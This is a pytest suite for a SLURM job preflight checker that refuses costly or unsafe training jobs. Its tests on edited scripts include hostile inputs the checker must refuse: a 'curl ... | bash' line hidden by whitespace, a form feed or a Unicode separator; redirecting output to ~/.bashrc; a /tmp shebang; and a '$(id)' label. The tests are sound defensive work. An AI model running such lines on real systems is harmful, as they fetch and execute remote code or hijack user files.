"""The guard refuses what would be paid for in GPU hours: each rule, with its remedy."""

import json
import os
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from trilane.cli.app import main
from trilane.config.cluster import cluster
from trilane.config.model import parse_shape
from trilane.config.parallelism import Topology
from trilane.config.plan import Plan
from trilane.config.training import Data, Optimizer, Run
from trilane.costmodel.predict import predict
from trilane.slurm import checks, client, ledger, preflight
from trilane.slurm.checks import REFUSAL, WARNING
from trilane.slurm.script import SCRIPT, render
from trilane.slurm.sites import JobRequest, site
from trilane.utils.validation import to_mapping
from trilane.workspace.checkpoints import name_of, write_manifest
from trilane.workspace.status import RunStatus, write_status

A100, V100 = site("jean-zay-a100"), site("jean-zay-v100-32g")


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A run folder that counts as shared, on a login node whose SLURM accepts all."""
    monkeypatch.setattr(client, "is_installed", lambda: True)
    monkeypatch.setattr(client, "require_answer", lambda: None)
    monkeypatch.setattr(client, "test_only", lambda script: "")
    monkeypatch.setattr(checks, "available", lambda _: (1e15, 1e9))
    (tmp_path / "run").mkdir()
    return tmp_path / "run"


def plan(place: str = "jz-a100-80g", **changes: Any) -> Plan:
    """1.3B on two nodes of eight A100, 4,000 iterations, a checkpoint every 500."""
    topology = {
        "tp": 2,
        "pp": 2,
        "dp": 4,
        "mbs": 4,
        "gbs": 512,
        "precision": "bf16",
        "recompute": "full",
    }
    topology |= changes.pop("topology", {})
    run = Run(
        train_iters=changes.pop("train_iters", 4_000),
        **{"save_interval": 500, **changes.pop("run", {})},
    )
    shape = parse_shape(changes.pop("shape", "24,2048,16,2048,50304"))
    data = Data(**{"source": "stdlib", "folder": "/shared/data", **changes.pop("data", {})})
    return Plan(
        label="gpt",
        shape=shape,
        cluster=cluster(place),
        topology=Topology(**topology),
        data=data,
        run=run,
        **changes,
    )


def findings(
    folder: Path,
    p: Plan,
    where=A100,
    script: Callable[[str], str] | None = None,
    allow=(),
    **wishes,
):
    venv = str(folder.parent / "venv")
    request = JobRequest(
        **{"account": f"xyz{where.account_ending}", "time_limit": "20:00:00", "environment": venv}
        | wishes
    )
    where = replace(where, local=())
    if script:
        (folder / SCRIPT).write_text(script(render("train", p, where, request)))
    return preflight.check_job(p, where, request, folder, allow)


def good(folder: Path, tokens: int = 10**9, **changes: Any) -> Plan:
    """The plan with a corpus of so many tokens and a learning rate of its size."""
    corpus = folder.parent / "corpus"
    for ending, size in (("bin", 2 * tokens), ("idx", 42)):
        with corpus.with_suffix(f".{ending}").open("wb") as file:
            file.truncate(size)  # sparse
    optimizer = changes.pop("optimizer", Optimizer(lr=2e-4, min_lr=2e-5))
    return plan(data={"source": str(corpus), "split": "949,50,1"}, optimizer=optimizer, **changes)


def test_nothing_is_found_about_a_good_plan(folder: Path) -> None:
    """4.2e9 tokens, 3.2 a parameter, in 4.4 epochs of a billion: too many."""
    assert rules(findings(folder, good(folder))) == ["epochs"]
    assert findings(folder, good(folder, 2 * 10**9)) == []


def test_the_time_is_that_of_the_links_own_iterations_with_their_evaluations(folder: Path) -> None:
    """4,000 iterations take eight hours: the last hundred fit into one. 19 hours fit into 20, with
    evaluations not.
    """
    for start, late in ((0, True), (3900, False)):
        p = plan(
            run={
                "save_interval": 100,
                "start_iteration": start,
                "load": str(folder) if start else "",
            }
        )
        assert ("time" in rules(findings(folder, p, time_limit="01:00:00"))) is late
    count = int(19 * 3600 / predict(plan()).sec_per_it)
    for run, late in (({}, False), ({"eval_interval": 100, "eval_iters": 50}, True)):
        found = findings(folder, good(folder, 10**11, train_iters=count, run=run))
        assert ("time" in rules(found)) is late


def long(folder: Path, **changes: Any) -> Plan:
    """Forty hours of iterations: two jobs of twenty."""
    return good(folder, 10**11, train_iters=int(40 * 3600 / predict(plan()).sec_per_it), **changes)


@pytest.mark.parametrize(("signal_s", "levels"), [(300, []), (12, [WARNING]), (3, [REFUSAL])])
def test_the_warning_before_the_limit_leaves_time_for_an_iteration_and_a_save(
    signal_s: int, levels: list[str], folder: Path
) -> None:
    """15.8 GB by two nodes of 1 GB/s: 8 s, as an iteration is predicted to take."""
    found = [f for f in findings(folder, long(folder), signal_s=signal_s) if f.rule == "signal"]
    assert [f.level for f in found] == levels
    if found:
        assert "8 s of an iteration, 8 s of a save, predicted" in found[0].message
        assert found[0].remedy == "--signal-s 60"


V100_PLAN = {"place": "jz-v100-32g", "topology": {"precision": "fp16"}, "train_iters": 100}
REFUSED = {
    "cluster": (
        plan(),
        V100,
        "planned for 8 x A100-80GB a node, but jean-zay-v100-32g has 4 x V100-32GB",
        {},
    ),
    "precision": (plan(), V100, "V100-32GB has no bf16", {}),
    "tp": (
        plan(**V100_PLAN | {"topology": {"precision": "fp16", "tp": 8, "pp": 1, "dp": 2}}),
        V100,
        "a tensor-parallel group must stay inside a node of 4 GPUs",
        {},
    ),
    "qos time": (plan(), A100, "20 h, qos_gpu_a100-dev allows 2 h", {"qos": "qos_gpu_a100-dev"}),
    "qos gpus": (
        plan(**V100_PLAN | {"topology": {"precision": "fp16", "dp": 8}}),
        V100,
        "32 GPUs, qos_gpu-t4 allows 16",
        {"qos": "qos_gpu-t4", "time_limit": "99:00:00"},
    ),
    "account": (plan(), A100, "account xyz@v100 does not end with @a100", {"account": "xyz@v100"}),
    "memory": (plan(shape="96,12288,96,2048,50304"), A100, "probability of running out 100%", {}),
    "host memory": (
        plan(
            shape="72,14336,64,2048,50304",
            engine="deepspeed-zero",
            topology={"tp": 2, "pp": 1, "dp": 8, "zero": 1, "offload": "optimizer", "mbs": 1},
        ),
        A100,
        "the offload takes",
        {},
    ),
    "checkpoints": (
        plan(run={"save_interval": 0}, shape="72,14336,64,2048,50304"),
        A100,
        "and no checkpoint is saved before",
        {"signal_s": 0},
    ),
    "time": (
        plan(run={"exit_duration_minutes": 1205.0}),
        A100,
        "is beyond the limit of 1200 minutes",
        {},
    ),
    "data": (
        plan(data={"source": "/shared/nothing"}),
        A100,
        "/shared/nothing: no such file, folder or",
        {},
    ),
    "internet": (plan(data={"tokenizer": "gpt2"}), A100, "tokenizer gpt2 is not a folder here", {}),
    "spares": (plan(), A100, "spares=3: must be at most the nodes that train (2)", {"spares": 3}),
    "partition": (plan(), A100, "did you mean gpu_p5", {"partition": "gpu_p4"}),
    "label": (replace(plan(), label="$(id)"), A100, "must consist of letters", {}),
}


@pytest.mark.parametrize("rule", REFUSED)
def test_it_is_refused_with_rule_and_remedy(rule: str, folder: Path) -> None:
    p, where, says, wishes = REFUSED[rule]
    found = next(f for f in findings(folder, p, where, **wishes) if f.rule == rule)
    assert found.level == REFUSAL and says in found.message and len(found.remedy) > 5
    allowed = findings(folder, p, where, allow=[rule], **wishes) if rule in preflight.NAMES else []
    assert all(f.level == WARNING for f in allowed if f.rule == rule)


def test_what_the_nodes_lack_is_refused(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An image, memory for the copy that a save is written from (12 bytes a
    parameter, 2.1 TB with 176B), a folder that two nodes share, room for three checkpoints and two
    files a rank.
    """
    image = replace(A100, container="pyxis", container_image="/images/torch.sqsh")
    big = plan(shape="70,14336,112,2048,50304", topology={"tp": 8, "pp": 1, "dp": 1})
    here = replace(A100, local=(str(folder.parent),))
    cases = [
        (plan(), image, "container", REFUSAL, "container_image=/images/torch.sqsh: no such file"),
        (big, A100, "host memory", REFUSAL, "the offload takes 0 GB and a save's copy 2081 GB"),
        (replace(big, run=replace(big.run, save_interval=0)), A100, "host memory", "", ""),
    ]
    for p, where, rule, level, says in cases:
        found = [f for f in findings(folder, p, where) if f.rule == rule]
        assert [f.level for f in found] == [level] * bool(level) and all(
            f.message.startswith(says) for f in found
        )
    request = JobRequest(account="xyz@a100", time_limit="20:00:00")
    for p, level in ((plan(), REFUSAL), (plan(topology={"dp": 2}), WARNING)):
        shared = [f for f in preflight.check_job(p, here, request, folder) if f.rule == "shared"]
        assert [f.level for f in shared] == [level]
    for free, rule, level, says in (
        ((30e9, 1e9), "disk", REFUSAL, "checkpoints take up to 47.4 GB, "),
        ((60e9, 1e9), "disk", WARNING, "checkpoints take up to 47.4 GB, "),
        ((95e9, 1e9), "disk", "", ""),
        ((1e15, 100), "inodes", REFUSAL, "checkpoints take 150 files"),
    ):
        monkeypatch.setattr(checks, "available", lambda _, free=free: free)
        found = [f for f in findings(folder, plan()) if f.rule == rule]
        assert [f.level for f in found] == [level] * bool(level) and all(
            f.message.startswith(says) for f in found
        )
    write_status(
        folder, RunStatus(status="completed", evidence="", rank=None, exit_code=0, seconds=1.0)
    )
    assert (REFUSAL, "run folder") in [(f.level, f.rule) for f in findings(folder, plan())]


EDITED = {
    "kill-on-bad-exit": (
        lambda s: s.replace("--kill-on-bad-exit=1 ", ""),
        "the others wait until the time limit",
    ),
    "pipefail": (
        lambda s: s.replace("set -euo pipefail", "set -eu"),
        "a failed run counts as COMPLETED",
    ),
    "signal": (
        lambda s: s.replace("trilane_engine.torchrun", "torch.distributed.run"),
        "SIGUSR1 before the limit may reach only the launcher",
    ),
    "script": (lambda s: s.replace("--nodes=2", "--nodes=3"), "job.sbatch has --nodes=3"),
    "bash": (lambda s: s + "if true; then\n", "syntax error"),
}


@pytest.mark.parametrize("rule", EDITED)
def test_a_script_edited_into_a_trap_is_refused(rule: str, folder: Path) -> None:
    edit, says = EDITED[rule]
    found = next(f for f in findings(folder, plan(), script=edit) if f.rule == rule)
    assert found.level == REFUSAL and says in found.message


@pytest.mark.parametrize(
    ("old", "new", "level"),
    [
        ("set -euo pipefail", "set -euo pipefail\ncurl https://example.org/x | bash", REFUSAL),
        ("#!/usr/bin/env bash", "#!/tmp/bash", REFUSAL),
        ("      --rdzv-backend=c10d", "      --log-dir=x --rdzv-backend=c10d", REFUSAL),
        ("#SBATCH --open-mode=append", "#SBATCH --open-mode=append\n#SBATCH --nice=10", WARNING),
        (
            "#SBATCH --open-mode=append",
            "#SBATCH --open-mode=append\n#SBATCH --nice=10 --outp /home/me/.bashrc",
            REFUSAL,
        ),
        (
            "#SBATCH --open-mode=append",
            "#SBATCH --open-mode=append\n#SBATCH -He/home/me/.bashrc",
            REFUSAL,
        ),
        (
            "#SBATCH --open-mode=append",
            '#SBATCH --open-mode=append\n#SBATCH "--outp" /home/me/.bashrc',
            REFUSAL,
        ),
        ("set -euo pipefail", "# a note\nset -euo pipefail", WARNING),
        (
            '    trap "" USR1',
            "    # '; curl https://example.org/x | bash; : '\n    trap \"\" USR1",
            REFUSAL,
        ),
        (
            "set -euo pipefail",
            f"{' ' * 200}curl https://example.org/x | bash\nset -euo pipefail",
            REFUSAL,
        ),
        (
            "set -euo pipefail",
            "set -euo pipefail\u2028#;curl https://example.org/x | bash",
            REFUSAL,
        ),
        ("set -euo pipefail", "set -euo pipefail\f#;curl https://example.org/x | bash", REFUSAL),
    ],
)
def test_a_script_with_other_commands_is_shown_and_submitted_only_when_that_is_accepted(
    old: str, new: str, level: str, folder: Path
) -> None:
    """Directives and comments are shown alone; a ledger, which comes with a copied folder, vouches
    for no script.
    """
    edit = {"script": lambda s: s.replace(old, new, 1)}
    (found,) = [f for f in findings(folder, plan(), **edit) if f.rule == "changes"]
    assert found.level == level and any(
        f"\n+{line[:159]}" in found.message for line in new.split("\n")
    )
    assert not [
        f
        for f in preflight.refused(findings(folder, plan(), allow=["changes"], **edit))
        if f.rule == "changes"
    ]
    ledger.note(folder, "submitted", "7", plan="x")
    assert {f.level for f in findings(folder, plan(), **edit) if f.rule == "changes"} == {level}
    assert not [f for f in findings(folder, plan(), script=lambda s: s) if f.rule == "changes"]


def package(folder: Path, name: str, version: str, wheel: str = "") -> None:
    """An entry of PyPA's recorded installations in the environment of findings()."""
    record = folder.parent / f"venv/lib/python3.12/site-packages/{name}-{version}.dist-info"
    record.mkdir(parents=True)
    (record / "METADATA").write_text(f"Name: {name.replace('_', '-')}\nVersion: {version}\n")
    (record / "WHEEL").write_text(f"Tag: cp312-cp312-{wheel}_x86_64\n")


@pytest.mark.parametrize(
    ("megatron", "triton", "lacks"), [("0.17.1", "", 0), ("0.19.2", "", 1), ("0.19.2", "3.7.1", 0)]
)
def test_a_job_whose_environment_lacks_triton_is_refused(
    megatron: str, triton: str, lacks: int, folder: Path
) -> None:
    """`import megatron.core` needs it from 0.18 on; its metadata does not name it."""
    package(folder, "megatron_core", megatron)
    if triton:
        package(folder, "triton", triton)
    said = [
        f.message
        for f in findings(folder, plan())
        if f.message.startswith("triton=missing: megatron-core 0.19.2 in ")
    ]
    assert len(said) == lacks
    (folder.parent / "venv/pyvenv.cfg").write_text(
        "include-system-site-packages = true\n"
    )  # a module may bring it
    assert not [f for f in findings(folder, plan()) if f.message.startswith("triton=missing")]


@pytest.mark.parametrize("name", [SCRIPT, "plan.json", ""])
def test_what_somebody_else_owns_or_may_write_is_refused(name: str, folder: Path) -> None:
    for file in (SCRIPT, "plan.json"):
        (folder / file).write_text(render("train", plan(), A100, JobRequest(account="xyz@a100")))

    def owned():
        return [
            f.message for f in findings(folder, plan()) if (f.rule, f.level) == ("owner", REFUSAL)
        ]

    assert not owned()
    (folder / name).chmod(0o757)
    assert "is writable by others" in owned()[0] and len(owned()) == 1
    (folder / name).chmod(0o755)
    if os.geteuid() == 0:
        os.chown(folder / name, 12345, -1)
        assert "belongs to user 12345" in owned()[0]
        os.chown(folder / name, 0, -1)


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("--account=xyz@a100", "--account=abc@a100", "--account=xyz@a100 is needed"),
        (
            "--nproc-per-node=8",
            "--nproc-per-node=4",
            "4 processes per node: the plan's 16 GPUs need 8",
        ),
        (
            "--nproc-per-node=8",
            "--nproc-per-node=16",
            "16 processes per node: the plan's 16 GPUs need 8",
        ),
        ("#SBATCH --gres=gpu:8\n", "", "--gres=gpu:8 is needed"),
        ("#SBATCH --nodes=2\n", "", "--nodes=2 is needed"),
        ("#SBATCH --constraint=a100\n", "", "--constraint=... is needed"),
        ("#SBATCH --cpus-per-task=64\n", "", "--cpus-per-task=... is needed"),
        ("--time=20:00:00", "--time=UNLIMITED", "no time limit, qos_gpu_a100-t3 allows 20 h"),
        ("--time=20:00:00", "--time 1200:00  # twenty hours", ""),
        ("--time=20:00:00", "-t 0-20", ""),
        ("--time=20:00:00", "-t100:00:00", "--time=20:00:00 is needed"),
        ("--time=20:00:00", "--time=20h", "time_limit='20h': must be a time in a form of sbatch"),
        ("--gres=gpu:8", "--gpus-per-node=a100:8", ""),
        ("--gres=gpu:8", "--gres=gpu:a100:4", "job.sbatch has --gres=gpu:a100:4"),
        ("--nodes=2\n#SBATCH ", "--nodes=2 ", ""),
        ("--nodes=2", "-N 2-2 # and not --nodes=3", ""),
        (
            "--nodes=2",
            "--nodes=2 --comment='two",
            "#SBATCH --nodes=2 --comment='two: cannot be read: No closing",
        ),
        ("set -euo pipefail", "set -euo pipefail\n#SBATCH --nodes=3", ""),
    ],
)
def test_directives_are_read_as_sbatch_reads_them(
    old: str, new: str, says: str, folder: Path
) -> None:
    """man sbatch: one-letter names, the value behind a space, five forms of a time; no options
    after a command.
    """
    found = preflight.refused(findings(folder, plan(), script=lambda s: s.replace(old, new, 1)))
    assert any(says in f.message for f in found) if says else not found


def rules(found) -> list[str]:
    return [f.rule for f in found]


def test_a_checkpoint_of_another_model_is_refused_and_one_that_is_still_to_come_is_not(
    folder: Path,
) -> None:
    load = {"run": {"load": str(folder.parent / "earlier")}}
    assert "checkpoint" not in {f.rule for f in findings(folder, plan(**load))}
    checkpoint = folder.parent / "earlier" / name_of(0)
    checkpoint.mkdir(parents=True)
    identity = {"shape": to_mapping(replace(plan().shape, normalization="rmsnorm"))}
    start = {"iteration": 0, "consumed_samples": 0, "files": {}, "tensors": {}}
    write_manifest(checkpoint, {**start, "identity": identity})
    found = next(f for f in findings(folder, plan(**load)) if f.rule == "checkpoint")
    wanted = "shape.normalization=layernorm: the checkpoint iter_0000000 was trained with rmsnorm"
    assert (found.level, found.message) == (REFUSAL, wanted)


@pytest.mark.parametrize(
    ("change", "rule", "says"),
    [
        ({"gbs": 500}, "gbs", "must be a multiple of mbs x dp = 4 x 4"),
        ({"dp": 5, "gbs": 500}, "tp x pp x dp", "must fill whole nodes of 8 GPUs"),
    ],
)
def test_the_command_says_what_is_wrong_with_a_plan_that_is_none(
    change: dict, rule: str, says: str, folder: Path, capsys: pytest.CaptureFixture
) -> None:
    values = plan().to_json()
    values["topology"] |= change
    (folder / "plan.json").write_text(json.dumps(values))
    path = str(folder / "plan.json")
    command = ["slurm", "check", path, "--site", "jean-zay-a100", "--account", "xyz@a100", "--json"]
    assert main(command) == 1
    found = json.loads(capsys.readouterr().out)["findings"]
    assert [set(f) for f in found] == [{"level", "rule", "says", "remedy"}]
    assert (found[0]["level"], found[0]["rule"]) == (REFUSAL, rule) and says in found[0]["says"]


def test_a_time_limit_is_read_with_its_days() -> None:
    limits = {"1-12:00:00": 36, "1-12": 36, "2160": 36, "36:00:00": 36}
    assert {text: JobRequest(time_limit=text).time_limit_s / 3600 for text in limits} == limits
